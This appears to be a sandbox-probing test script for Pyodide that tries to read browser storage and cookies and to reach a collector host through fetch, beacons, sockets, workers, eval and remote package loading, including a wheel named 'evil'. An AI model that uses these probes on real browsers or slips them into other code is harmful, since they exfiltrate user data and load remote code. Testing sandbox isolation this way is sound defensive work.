"""Tries all that Python in a browser could try, and prints what came of each try."""

import asyncio
import urllib.request

import js
import pyodide_js
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js
from pyodide.http import open_url, pyfetch

COLLECTOR = open("collector.txt").read()
SCRIPT = f"fetch('{COLLECTOR}nested').then((r) => r.text()).then(postMessage)"


async def trying(name, attempt):
    try:
        answer = attempt()
        if hasattr(answer, "then") or asyncio.iscoroutine(answer):
            answer = await asyncio.wait_for(answer, 1)
        print(f"{name}:", str(answer)[:300])
    except BaseException as error:
        print(f"{name}: {type(error).__name__}: {str(error)[:300]}")


def settled(target, good, bad):
    """Which of two events comes."""
    future = asyncio.get_running_loop().create_future()

    def settle(word):
        return create_proxy(lambda *_: future.done() or future.set_result(word))

    setattr(target, good, settle("reached"))
    setattr(target, bad, settle("refused"))
    return asyncio.wait_for(future, 1)


def options(**given):
    return to_js(given, dict_converter=js.Object.fromEntries)


async def database():
    request = js.indexedDB.open("canary")
    if await settled(request, "onsuccess", "onerror") == "reached":
        return js.JSON.stringify(js.Array["from"](request.result.objectStoreNames))
    return "refused"


async def cached():
    cache = await js.caches.open("canary")
    return await (await cache.match("/canary")).text()


async def cookies():
    return js.JSON.stringify(await js.cookieStore.getAll())


async def text_of(address, **given):
    response = await js.fetch(address, options(**given))
    return await response.text()


def request_now():
    request = js.XMLHttpRequest.new()
    request.open("GET", COLLECTOR + "xhr", False)
    request.send()
    return request.responseText


async def storage():
    await trying("origin", lambda: js.origin)
    await trying("localStorage", lambda: js.localStorage.getItem("canary"))
    await trying("indexedDB", database)
    await trying("caches", cached)
    await trying("file system", lambda: js.navigator.storage.getDirectory())
    await trying("cookie", lambda: js.document.cookie)
    await trying("cookie store", cookies)
    await trying("locks", lambda: js.navigator.locks.query())
    await trying("service worker", lambda: js.navigator.serviceWorker.getRegistrations())
    await trying("broadcast", lambda: js.BroadcastChannel.new("canary").postMessage("from the sandbox"))
    await trying("parent", lambda: js.parent.localStorage.getItem("canary"))


async def network():
    await trying("fetch", lambda: text_of(COLLECTOR + "fetch"))
    await trying("fetch without cors", lambda: text_of(COLLECTOR + "no-cors", mode="no-cors", keepalive=True))
    await trying("request", request_now)
    await trying("beacon", lambda: js.navigator.sendBeacon(COLLECTOR + "beacon", "x"))
    await trying(
        "socket",
        lambda: settled(js.WebSocket.new(COLLECTOR.replace("http", "ws") + "socket"), "onopen", "onerror"),
    )
    await trying("events", lambda: settled(js.EventSource.new(COLLECTOR + "events"), "onopen", "onerror"))
    await trying("transport", lambda: js.WebTransport.new(COLLECTOR.replace("http:", "https:")).ready)
    await trying("script", lambda: js.importScripts(COLLECTOR + "script.js"))
    await trying("font", lambda: js.FontFace.new("x", f"url({COLLECTOR}font)").load())
    await trying("peer", lambda: js.RTCPeerConnection.new().createOffer())
    await trying("pyfetch", lambda: pyfetch(COLLECTOR + "pyfetch"))
    await trying("open_url", lambda: open_url(COLLECTOR + "open-url").read())
    await trying("urlopen", lambda: urllib.request.urlopen(COLLECTOR + "urlopen", timeout=1).read())
    await trying("package", lambda: pyodide_js.loadPackage(COLLECTOR + "evil-1.0-py3-none-any.whl"))


async def scripts():
    await trying("module", lambda: run_js(f"import('{COLLECTOR}module.js')"))
    await trying("eval", lambda: run_js(f"fetch('{COLLECTOR}eval')"))
    await trying("function", lambda: js.Object.constructor(f"return fetch('{COLLECTOR}function')")())
    await trying("timer", lambda: js.setTimeout(f"fetch('{COLLECTOR}timer')", 0))
    for address in (
        COLLECTOR + "worker.js",
        "data:text/javascript," + js.encodeURIComponent(SCRIPT),
        js.URL.createObjectURL(js.Blob.new(to_js([SCRIPT]), options(type="text/javascript"))),
    ):
        await trying(f"worker {address[:5]}", lambda: settled(js.Worker.new(address), "onmessage", "onerror"))


async def main():
    await storage()
    await network()
    await scripts()


asyncio.run(main())
print("all tried")
